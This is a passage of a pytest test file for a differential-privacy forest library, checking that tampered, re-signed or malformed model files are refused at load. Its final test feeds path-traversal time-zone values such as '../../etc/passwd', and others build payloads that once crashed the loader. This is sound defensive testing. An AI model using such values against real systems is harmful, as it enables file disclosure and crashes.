    m = fit_per_person(d.DPForestClassifier(1.0, s, progress=False), X, y, person="pid",
                       max_rows=2, person_epsilon=1.0)
    path = save_model(m, tmp_path / "m.json")
    assert load_model(path).person_bound_["person_epsilon"] == 1.0

    def edit(**change):
        def apply(p):
            p["fitted"]["person_bound_"].update(change)
        q = tmp_path / "e.json"
        q.write_bytes(path.read_bytes())
        _rehashed(q, apply)
        return q

    with pytest.raises(ModelFileError, match=r"states epsilon 0.5 per person, not 2 rows"):
        load_model(edit(person_epsilon=0.5))
    with pytest.raises(ModelFileError, match="states epsilon 1 per person, not 3 rows"):
        load_model(edit(max_rows=3))
    with pytest.raises(ModelFileError, match="states epsilon 2 per person, not 2 rows"):
        load_model(edit(person_epsilon=2.0))   # overstated: show would print 2 x 0.5 = 2
    for bad in ({"max_rows": 0}, {"max_rows": 1.5}, {"person_epsilon": "1"}, {"extra": 1}):
        with pytest.raises(ModelFileError, match="malformed"):
            load_model(edit(**bad))
    both = edit(max_rows=4, person_epsilon=2.0)        # consistent with itself: it loads
    assert load_model(both).person_bound_["max_rows"] == 4


def test_a_pickle_of_an_older_layout_is_refused_with_the_way_out():
    """A pickle from a version whose estimator lacked a parameter, or whose trees had another
    layout, loaded and then failed at predict with an AttributeError naming an internal: it is
    refused when unpickled, saying how to carry the model over (save_model with its own
    version); a current pickle loads as before."""
    import copy
    import pickle

    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.random(200)})
    y = (X.a > 0.5).astype(int)
    m = d.DPForestClassifier(schema=d.Schema([d.Numeric("a", 0, 1)], classes=[0, 1]),
                             progress=False).fit(X, y)
    np.testing.assert_array_equal(pickle.loads(pickle.dumps(m)).predict_proba(X), m.predict_proba(X))
    state = m.__getstate__()
    state.pop("leaf_release")
    state["_dpforest_version"] = "0.0.1"
    with pytest.warns(d.io.InconsistentVersionWarning), \
            pytest.raises(TypeError, match=r"lacks the parameters \['leaf_release'\].*save_model"):
        d.DPForestClassifier.__new__(d.DPForestClassifier).__setstate__(state)
    old_tree = copy.copy(m.trees_[0])
    del old_tree.route_rows
    state = {**m.__getstate__(), "trees_": [old_tree]}
    with pytest.raises(TypeError, match="its trees have an older layout"):
        d.DPForestClassifier.__new__(d.DPForestClassifier).__setstate__(state)


def test_a_noiseless_flag_written_as_text_is_refused(tmp_path):
    """bool("false") is True: a flag given as text was read as the opposite of what it says."""
    X, y, schema = make_mixed(300)
    m = d.DPForestClassifier(1.0, schema, random_state=0, progress=False).fit(X, y)
    path = save_model(m, tmp_path / "m.json")

    def texted(doc):
        doc["payload"]["ledger"]["noiseless"] = "false"
    _rewrite(path, texted, fix_checksum=True)
    with pytest.raises(ModelFileError, match="noiseless flag must be true or false"):
        load_model(path)


def test_a_key_named_twice_is_refused(tmp_path):
    """json.loads keeps a repeated key's last copy: a file with a second, re-signed ledger
    figure read one way by dpforest and another by a checker who reads the first copy."""
    X, y, schema = make_mixed(200)
    m = d.DPForestClassifier(1.0, schema, random_state=0, progress=False).fit(X, y)
    text = save_model(m, tmp_path / "m.json").read_text()
    at = text.index('"payload":{') + len('"payload":{')
    (tmp_path / "twice.json").write_text(text[:at] + '"epsilon_spent":0.001,' + text[at:])
    with pytest.raises(ModelFileError, match="names a key twice"):
        load_model(tmp_path / "twice.json")
    assert load_model(tmp_path / "m.json").ledger_.epsilon == pytest.approx(1.0)


def test_a_loaded_model_saves_to_the_same_bytes_with_whole_number_bounds(tmp_path):
    """Numeric keeps a declared int bound an int; the loader read it back as a float, so the
    re-saved file (and the hash a checker compares) changed although the model had not."""
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.uniform(0, 1, 300), "b": rng.integers(0, 30, 300)})
    y = pd.Series(np.where(X["a"] > 0.5, "p", "q"))
    s = d.Schema([d.Numeric("a", 0, 1), d.Numeric("b", 0.0, 30)], classes=["p", "q"])
    m = d.DPForestClassifier(1.0, s, random_state=0, progress=False).fit(X, y)
    first = save_model(m, tmp_path / "a.json")
    again = save_model(load_model(first), tmp_path / "b.json")
    assert first.read_bytes() == again.read_bytes()
    back = load_model(again).schema_.features
    assert type(back[0].lower) is int and type(back[1].lower) is float


def test_loading_and_predicting_never_imports_opendp(tmp_path, fitted):
    """OpenDP is imported when a fit first certifies a mechanism, not by loading a model file
    and predicting with it (a serving process saves its import time and memory)."""
    import subprocess
    import sys

    X, _, models = fitted
    model = models[0]
    path = tmp_path / "m.json.gz"
    d.save_model(model, path)
    X.head(20).to_pickle(tmp_path / "x.pkl")
    code = (f"import sys, pandas as pd, dpforest\n"
            f"m = dpforest.load_model({str(path)!r})\n"
            f"m.predict_proba(pd.read_pickle({str(tmp_path / 'x.pkl')!r}))\n"
            f"print('opendp' in sys.modules)\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip() == "False"
    from dpforest.privacy import mechanisms
    mechanisms._opendp.cache_clear()
    mechanisms._certify_count.cache_clear()
    mechanisms._certify_count(1.0, 1)            # a fit's certification imports it
    assert "opendp" in sys.modules


def test_save_model_of_a_pipeline_says_how(mixed, tmp_path):
    from sklearn.pipeline import Pipeline

    X, y, schema = mixed
    pipe = Pipeline([("dp", d.DPForestClassifier(epsilon=1.0, schema=schema, progress=False))]).fit(X, y)
    with pytest.raises(TypeError, match=r"Pipeline; save its final step \(pipe\[-1\]\)"):
        d.save_model(pipe, tmp_path / "p.json")
    assert not (tmp_path / "p.json").exists()
    d.save_model(pipe[-1], tmp_path / "m.json")          # the way out it names works
    assert d.load_model(tmp_path / "m.json").predict(X.head(3)).shape == (3,)


@pytest.mark.parametrize("suffix", ["m.json", "m.json.gz"])
def test_load_model_checks_a_hash_kept_apart(tmp_path, fitted, suffix, capsys):
    """load_model(sha256=) and --sha256: the file's bytes on disk must have the hash kept where
    the model was made (as show prints it); a replaced file is refused before it is parsed."""
    from dpforest.cli import main

    X, _, models = fitted
    path = save_model(models[0], tmp_path / suffix)
    other = save_model(models[1], tmp_path / ("o" + suffix))
    good = hashlib.sha256(path.read_bytes()).hexdigest()
    back = load_model(path, sha256=good.upper())
    np.testing.assert_array_equal(back.predict_proba(X), models[0].predict_proba(X))
    theirs = hashlib.sha256(other.read_bytes()).hexdigest()
    with pytest.raises(ModelFileError, match=f"its sha256 differs from {good}") as e:
        load_model(other, sha256=good)
    assert theirs not in str(e.value)      # (a data file given by mistake: its hash not shown)
    for bad in ("abc", good + "0", 12, "g" * 64):
        with pytest.raises(ValueError, match="64 hexadecimal digits"):
            load_model(path, sha256=bad)
    assert main(["show", str(path), "--sha256", good]) == 0
    assert good in capsys.readouterr().out
    assert main(["show", str(other), "--sha256", good]) == 2
    assert "is not the file expected" in capsys.readouterr().err
    assert main(["show", str(path), "--sha256", "xyz"]) == 2
    assert "--sha256 takes the model file's hash as 64 hexadecimal digits" in capsys.readouterr().err


def test_runtime_settings_set_after_the_fit_are_saved_without_a_refit_notice(tmp_path):
    """n_jobs and progress say how work runs, not what was released: set after the fit, the
    file keeps their new values, nobody is told to refit, and a released parameter changed
    beside them is still named alone."""
    X, y, schema = make_mixed(300)
    m = d.DPForestClassifier(1.0, schema, n_estimators=2, max_depth=4, progress=False).fit(X, y)
    m.set_params(n_jobs=2, progress=True)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        path = save_model(m, tmp_path / "m.json")
    params = json.loads(path.read_text())["payload"]["params"]
    assert (params["n_jobs"], params["progress"]) == (2, True)
    assert (load_model(path).n_jobs, load_model(path).progress) == (2, True)
    m.set_params(max_depth=2)
    with pytest.warns(UserWarning, match=r"since the fit \(max_depth=4 at the fit, now 2\)"):
        save_model(m, tmp_path / "m2.json")


def test_parameters_set_after_the_fit_are_not_saved(tmp_path):
    """set_params after a fit changes the estimator, not the released model: the file records
    the fit's parameters (it loads; it describes the trees) and says that they changed."""
    X, y, schema = make_mixed(300)
    m = d.DPForestClassifier(1.0, schema, n_estimators=2, max_depth=4, progress=False).fit(X, y)
    m.set_params(epsilon=2.0, max_depth=2)
    with pytest.warns(UserWarning, match="parameters changed since the fit .*the file records "
                                         "those the model was fitted with; refit to use the new "
                                         "ones, which spends a budget again"):
        path = save_model(m, tmp_path / "m.json")
    params = json.loads(path.read_text())["payload"]["params"]
    assert params["epsilon"] == 1.0 and params["max_depth"] == 4
    m2 = load_model(path)
    assert (m2.epsilon, m2.max_depth) == (1.0, 4)
    np.testing.assert_array_equal(m2.predict_proba(X), m.predict_proba(X))


def test_file_of_a_model_without_fit_parameters_loads_and_saves_as_before(tmp_path, fitted):
    """A model file carries no separate record of the fit's parameters (its params are the
    fit's): one an earlier version wrote loads, and saves again to the same payload, also from
    an estimator that lacks the record (fitted by an earlier version)."""
    m = fitted[2][0]
    first = json.loads(save_model(m, tmp_path / "a.json").read_text())["payload"]
    state = m.__dict__.pop("_fit_params")
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("error", UserWarning)
            second = json.loads(save_model(m, tmp_path / "b.json").read_text())["payload"]
            again = json.loads(save_model(load_model(tmp_path / "b.json"),
                                          tmp_path / "c.json").read_text())["payload"]
    finally:
        m._fit_params = state
    assert first["params"] == second["params"] == again["params"]


def test_a_byte_order_mark_and_a_sha256sum_line_are_read_as_meant(tmp_path, fitted):
    """A model file an editor saved with a UTF-8 byte order mark was refused as "a data file?";
    load_model(sha256=...) refused the hash with blanks around it or as sha256sum prints it
    (hash, two spaces, file name).  Both load now; a hash with other text is still refused."""
    import hashlib

    X, y, models = fitted
    path = save_model(models[0], tmp_path / "m.json")
    raw = path.read_bytes()
    bom = tmp_path / "bom.json"
    bom.write_bytes(b"\xef\xbb\xbf" + raw)
    np.testing.assert_array_equal(load_model(bom).predict_proba(X), models[0].predict_proba(X))
    h = hashlib.sha256(raw).hexdigest()
    for given in (f"  {h}\n", f"{h}  {path}\n", f"{h.upper()} *m.json"):
        assert load_model(path, sha256=given).ledger_.epsilon == models[0].ledger_.epsilon
    for bad in (f"{h}x", f"sha256:{h}", h[:-1]):
        with pytest.raises(ValueError, match="64 hexadecimal digits"):
            load_model(path, sha256=bad)


def test_a_model_file_holds_what_the_fit_released_and_nothing_added(tmp_path, fitted):
    """An attribute added to a fitted model by hand (a note, rows of the training data) was
    written, loaded and shown by nothing: save_model refuses it (naming the attribute, never a
    value) and changes nothing; a hand-edited file holding one -- or another key inside its
    ledger, a tree or a tagged value -- is refused even with its checksum recomputed."""
    X, _, models = fitted
    m = models[0]
    m.example_records_ = X.head(3).astype(str).to_numpy()
    try:
        with pytest.raises(ValueError, match=r"'example_records_'.*delattr\(model, 'example_records_'\)"):
            save_model(m, tmp_path / "added.json")
        assert not (tmp_path / "added.json").exists()
    finally:
        del m.example_records_
    # a name another class's fit sets (the SNR forest's n_records_), or one only tools and
    # commands used (proba_), is no attribute of this class's fit either
    for name in ("n_records_", "proba_", "note"):     # (a name without "_" was dropped silently)
        setattr(m, name, np.arange(3))
        try:
            with pytest.raises(ValueError, match=repr(name)):
                save_model(m, tmp_path / "added.json")
        finally:
            delattr(m, name)
    path = save_model(m, tmp_path / "m.json")
    assert set(json.loads(path.read_text())["payload"]["fitted"]) <= (
        d.io.COMMON_FITTED_ATTRIBUTES | d.io.FITTED_ATTRIBUTES[type(m).__name__])

    def added(payload):
        payload["fitted"]["example_records_"] = ["39", "State-gov", "77516"]

    def in_ledger(payload):
        payload["ledger"]["notes"] = "row 17: age 39"

    def in_tree(payload):
        payload["fitted"]["trees_"][0]["__flattree__"]["extra"] = [39, 77516]

    def beside_a_tag(payload):
        payload["fitted"]["tree_weights_"]["note"] = "row 17"

    for edit, said in ((added, "'example_records_' that no dpforest version writes"),
                       (in_ledger, "a ledger holds 1 key"), (in_tree, "a tree holds 1 key"),
                       (beside_a_tag, "tagged value .* holds keys")):
        bad = tmp_path / f"{edit.__name__}.json"
        shutil.copy(path, bad)
        _rehashed(bad, edit)
        with pytest.raises(ModelFileError, match=said):
            load_model(bad)
    np.testing.assert_array_equal(load_model(path).predict_proba(X), m.predict_proba(X))


@pytest.mark.parametrize("name, value", [
    ("constant_", "no"), ("constant_", 1), ("fit_id_", {"a": 1}), ("fit_id_", "row 17: age 39"),
    ("fitted_with_version_", ["0.6"]), ("n_features_in_", "4"), ("n_features_in_", True),
    ("feature_names_in_", [1, 2]), ("feature_names_in_", ["only one"]),
    ("csv_format_", ["sep", ","]), ("csv_format_", "sep=;"),
    # every fit writes 32 hexadecimal digits: longer is room for an editor's text
    ("fit_id_", "ab" * 32), ("fit_id_", "abc"),
    # the layout as `dpforest fit` writes it: no key of an editor's (it would load, travel
    # with the model and show only in `show --json`), options the command line accepts, header
    # names that are the model's columns, label texts mapped to declared classes
    ("csv_format_", {"sep": ";", "note": "P00017 age 44 income 23456.12"}),
    ("csv_format_", {"sep": ";", "_extra": {"rows": [[44, 23456.12]]}}),
    ("csv_format_", {"sep": ""}), ("csv_format_", {"drop": "id"}), ("csv_format_", {"target": 3}),
    ("csv_format_", {"header": False, "columns": ["P00017 age 44"]}),
    ("csv_format_", {"label_map": {"yes": "no such class"}}),
    # y's name at fit: a text label naming no feature, of a label's length
    ("target_name_", 3), ("target_name_", ""), ("target_name_", "x" * 201)])
def test_common_fitted_values_are_checked_as_a_fit_writes_them(tmp_path, fitted, name, value):
    """A value of a common fitted attribute that no fit writes (a file whose checksum was
    recomputed after an edit) is refused by name when loaded, not tripped over later by the
    booking registry, `dpforest show` or scikit-learn's input checks; the file as saved loads."""
    X, _, models = fitted
    m = models[0]
    m.csv_format_ = {"sep": ";"}
    try:
        path = save_model(m, tmp_path / "m.json")
    finally:
        del m.csv_format_
    assert load_model(path).csv_format_ == {"sep": ";"}
    assert {"constant_", "fit_id_", "fitted_with_version_", "n_features_in_",
            "feature_names_in_"} <= set(json.loads(path.read_text())["payload"]["fitted"])

    def edit(payload):
        payload["fitted"][name] = value          # a JSON value: a list is no tagged array
    _rehashed(path, edit)
    with pytest.raises(ModelFileError, match=rf"{name} is not .*the file was edited"):
        load_model(path)


def test_loading_a_noiseless_test_mode_model_says_it_is_not_private(tmp_path, fitted):
    """`dpforest show` said a test-mode (noiseless) model is not private; a Python program
    loading it to serve it was told nothing."""
    path = save_model(fitted[2][0], tmp_path / "m.json")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        load_model(path)
    _rehashed(path, lambda payload: payload["ledger"].update(noiseless=True))
    with pytest.warns(d.exceptions.AccountingWarning, match="NOISELESS test mode") as rec:
        load_model(path)
    assert rec[0].filename == __file__


def test_a_statement_refuses_a_booked_model_given_an_attribute_afterwards():
    """A booked model with training rows added by hand: its digest takes them in (it is not
    refused: a budget still records one), so the release statement sees the model differs from
    the booked fit and refuses to vouch for it."""
    from dpforest.statement import release_statement

    X, y, schema = make_mixed(300)
    budget = d.PrivacyBudget(5.0)
    m = budget.fit(d.DPForestClassifier(1.0, schema, progress=False), X, y)
    release_statement(m, budget=budget)
    m.train_rows_ = X.head(5).astype(str).to_numpy().tolist()
    with pytest.raises(ValueError, match="differs from what was booked"):
        release_statement(m, budget=budget)


def test_edited_files_that_loaded_and_then_failed_are_refused_at_load(tmp_path, fitted):
    """A fuzzer's finds (43,000 edited payloads with their checksums recomputed): values the
    loader passed and predict (or ``dpforest show``) then failed on -- one of them crashing the
    process.  Each is now refused when loaded, by name; the file as saved still loads."""
    X, _, models = fitted
    m = models[0]
    path = save_model(m, tmp_path / "m.json")

    def tree0(payload):
        return payload["fitted"]["trees_"][0]["__flattree__"]

    def first_inner(payload):
        return next(i for i, f in enumerate(tree0(payload)["feature"]) if f >= 0)

    def huge_start(p):
        # start + offset wrapped round in int64 and passed "< n": predict's compiled walk read
        # outside its arrays (a segmentation fault)
        tree0(p)["child_start"][first_inner(p)] = 2 ** 63 - 1

    def root_made_leaf(p):
        # a leaf with no released count (as an internal node of a tree whose inner nodes
        # release none, made a leaf): its probabilities were all 0
        t = tree0(p)
        leaf = next(i for i, f in enumerate(t["feature"]) if f < 0)
        t["counts"][leaf] = [float("nan")] * len(t["counts"][leaf])

    def null_weights(p):
        p["fitted"]["tree_weights_"] = None

    def no_width(p):
        p["fitted"]["n_features_in_"] = None

    def other_names(p):
        p["fitted"]["feature_names_in_"] = ["x" + str(i) for i in range(len(m.feature_names_in_))]

    cases = [(huge_start, "inconsistent arrays"), (root_made_leaf, "inconsistent arrays"),
             (null_weights, "tree_weights_ must hold"), (no_width, "n_features_in_ is not"),
             (other_names, "feature_names_in_ is not")]
    for param, value in (("n_jobs", "x"), ("epsilon", "1"), ("progress", 3)):
        def edit(p, param=param, value=value):
            p["params"][param] = value
        cases.append((edit, f"its parameter {param} is not one a fit accepts"))

    def ledger_name(p):
        p["ledger"]["entries"][0][0] = ["a", "list"]
    cases.append((ledger_name, "malformed payload"))
    for k, (edit, said) in enumerate(cases):
        bad = tmp_path / f"bad{k}.json"
        shutil.copy(path, bad)
        _rehashed(bad, edit)
        with pytest.raises(ModelFileError, match=said):
            load_model(bad)
    np.testing.assert_array_equal(load_model(path).predict_proba(X), m.predict_proba(X))


def test_a_timestamps_time_zone_is_read_only_as_a_zone_name_or_a_fixed_offset():
    """A model file's timestamp category carries its time zone as text, which went to pandas
    as it was: 'dateutil//etc/localtime' made dateutil open that file, and the refusal said
    whether it existed.  Only the system's zone names and fixed offsets are read; the ones a
    fit writes round-trip."""
    import dpforest.io as io

    for tz in ("Europe/Paris", "UTC", "UTC+05:30"):
        ts = pd.Timestamp("2020-03-01 12:00", tz=tz if tz != "UTC+05:30" else "+05:30")
        tag = io._enc_scalar(ts, "a category")
        assert tag["tz"] == tz and io._dec_scalar(tag) == ts
    for odd in ("dateutil//etc/localtime", "../../etc/passwd", "/etc/localtime", "UTC+5"):
        with pytest.raises(ModelFileError, match="names a time zone the loader does not read"):
            io._dec_scalar({"__timestamp__": "2020-03-01T12:00:00", "unit": "ns", "tz": odd})
